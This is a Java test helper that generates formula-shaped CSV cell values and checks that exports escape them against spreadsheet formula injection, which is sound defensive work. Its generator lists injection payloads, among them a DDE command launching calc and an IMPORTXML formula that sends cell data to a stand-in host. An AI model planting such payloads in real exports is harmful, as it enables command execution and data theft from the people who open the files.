package dev.rapport.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;

/** What a spreadsheet makes of a CSV export: cells it would run as formulas are the danger. */
public final class Spreadsheet {

  private Spreadsheet() {}

  /** Strings that strangers could choose as handles, names or ids, often formula-shaped. */
  public static Arbitrary<String> cells() {
    Arbitrary<String> start =
        Arbitraries.of("", "=", "+", "-", "@", "\t", "\r", "\n", "'", "\"", ",", " =", "=cmd|");
    Arbitrary<String> rest =
        Arbitraries.oneOf(
            Arbitraries.strings().all().ofMaxLength(30),
            Arbitraries.of(
                "HYPERLINK(\"http://evil.example\",\"x\")",
                "1+1",
                "SUM(A1:A9)",
                "cmd|' /C calc'!A0",
                "IMPORTXML(CONCAT(\"http://e.example/?\",A1),\"//a\")"));
    return Combinators.combine(start, rest).as(String::concat);
  }

  public static boolean formulaStart(String cell) {
    if (cell.isEmpty()) {
      return false;
    }
    char c = cell.charAt(0);
    return c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r';
  }

  /** Parses RFC 4180 text into rows of cells. */
  public static List<List<String>> parse(String csv) {
    try (CSVParser p = CSVFormat.RFC4180.parse(new StringReader(csv))) {
      List<List<String>> rows = new ArrayList<>();
      for (CSVRecord r : p) {
        rows.add(r.toList());
      }
      return rows;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** The cell as a spreadsheet shows it: the original text, never a formula. */
  public static void assertNeutral(String original, String parsed) {
    String o = original == null ? "" : original;
    assertThat(formulaStart(parsed)).as("runs as a formula: %s", parsed).isFalse();
    assertThat(parsed).isEqualTo(formulaStart(o) ? "'" + o : o);
  }
}
